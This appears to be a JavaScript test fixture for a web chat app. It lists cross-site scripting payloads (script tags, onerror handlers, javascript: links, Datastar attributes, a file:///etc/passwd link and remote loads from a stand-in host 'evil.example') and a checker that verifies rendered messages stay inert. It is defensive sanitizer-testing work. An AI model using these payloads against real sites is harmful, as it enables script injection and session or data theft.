// Texts that want to be more than text (delivery-and-security A60–A62, A66, A67). Every one names a host or a mark that
// shows when it got its way: FOREIGN in a request, `pwned` in the page.

/** A host that no page of ours may ever speak to. */
export const FOREIGN = 'evil.example';

const MARK = 'window.pwned=1';

/** Markup that would run, frame, style, submit or refresh. */
const MARKUP = [
  `<script>${MARK}</script>`,
  `<SCRIPT SRC=//${FOREIGN}/x.js></SCRIPT>`,
  `<img src=x onerror="${MARK}">`,
  `<img src="x" onerror=&#119;indow.pwned=1>`,
  `<svg onload=${MARK}><animate onbegin=${MARK} attributeName=x dur=1s></svg>`,
  `<svg><style><img src=x onerror=${MARK}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${MARK}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="//${FOREIGN}/"></iframe>`,
  `<object data="javascript:${MARK}"></object><embed src="//${FOREIGN}/x.swf">`,
  `<details open ontoggle=${MARK}><summary>x</summary></details>`,
  `<input autofocus onfocus=${MARK}>`,
  `<video><source onerror=${MARK}></video><audio src=x onerror=${MARK}>`,
  `<form action="//${FOREIGN}/"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=//${FOREIGN}/">`,
  `<base href="//${FOREIGN}/"><link rel=stylesheet href="//${FOREIGN}/x.css">`,
  `<style>@import "//${FOREIGN}/x.css"; body{background:url(//${FOREIGN}/b.png)}</style>`,
  `<p style="position:fixed;inset:0;background:url(//${FOREIGN}/c.png)">cover</p>`,
  `<div id="app" class="app">second app</div><div id="messages"></div>`,
  `<template><img src=x onerror=${MARK}></template><noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<a href="https://${FOREIGN}/" onmouseover="${MARK}" ping="//${FOREIGN}/ping">hover</a>`,
  `</li></ol></div><script>${MARK}</script>`,
  `<!-- --!><img src=x onerror=${MARK}> -->`,
  `<![CDATA[<img src=x onerror=${MARK}>]]>`,
];

/** What Datastar would take for its own. */
const DATASTAR = [
  `<div data-on:click="${MARK}" data-init="${MARK}" data-signals="{draft:'x'}" data-ignore-morph>datastar</div>`,
  `<div data-on-load="${MARK}" data-effect="${MARK}" data-text="'x'" data-on-intersect="${MARK}">datastar</div>`,
  `$draft $x \${${MARK}}`,
  `@get('/api/me') @post('/auth/logout') '+alert(1)+' "+alert(1)+"`,
  "`${window.pwned=1}`",
  'line\u2028separator\u2029paragraph',
];

/** Images and links that would call out or run. */
const REFERENCES = [
  `![remote](https://${FOREIGN}/pixel.png)`,
  `![remote](//${FOREIGN}/pixel.png "title")`,
  '![own](/auth/logout)',
  '![own](/api/me)',
  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZD0xIi8+)',
  `[script](javascript:${MARK})`,
  `[script](JaVaScRiPt:${MARK})`,
  `[script](<java\tscript:${MARK}>)`,
  `[script](&#106;avascript:${MARK})`,
  '[vb](vbscript:msgbox)',
  '[data](data:text/html,<script>1</script>)',
  '[file](file:///etc/passwd)',
  `[unc](\\\\${FOREIGN}\\share)`,
  `<javascript:${MARK}>`,
  `[reference][1]\n\n[1]: javascript:${MARK}`,
  `[title](https://${FOREIGN}/ "\\" onmouseover=\\"${MARK}")`,
  `\`\`\`"><img src=x onerror=${MARK}>\ncode\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${MARK}> |`,
];

export const HOSTILE = [...MARKUP, ...DATASTAR, ...REFERENCES];

/** What is alive where there should be text; an empty list is what a page should give. Runs in the page. */
export function alive() {
  const found = [];
  if (window.pwned) found.push('a script has run');
  const tags = 'script,style,iframe,object,embed,form,meta,base,link,svg,math,video,audio,template,button,textarea,select';
  const inputs = 'input:not([type=checkbox][disabled])';
  const attribute = (name) => /^(on|data-)/.test(name) || ['style', 'id', 'ping', 'srcdoc', 'formaction'].includes(name);
  const harmless = (url) => ['http:', 'https:', 'mailto:'].includes(url.protocol);
  for (const prose of document.querySelectorAll('#messages .prose')) {
    // A copy button is drawn by us around code, outside of the code itself.
    for (const element of prose.querySelectorAll(`${tags},${inputs}`)) {
      if (!element.closest('figcaption')) found.push(`element: ${element.outerHTML.slice(0, 120)}`);
    }
    for (const element of prose.querySelectorAll('*')) {
      if (element.closest('figcaption')) continue;
      for (const { name, value } of element.attributes) {
        if (attribute(name)) found.push(`attribute: ${element.tagName} ${name}=${value}`);
      }
    }
    for (const link of prose.querySelectorAll('a[href]')) {
      if (!harmless(new URL(link.href, location))) found.push(`link: ${link.outerHTML}`);
    }
    for (const image of prose.querySelectorAll('img')) {
      if (!new URL(image.src, location).pathname.startsWith('/files/')) found.push(`image: ${image.outerHTML}`);
    }
  }
  for (const id of ['app', 'messages', 'composer']) {
    if (document.querySelectorAll(`#${id}`).length !== 1) found.push(`there is not one #${id}`);
  }
  return found;
}
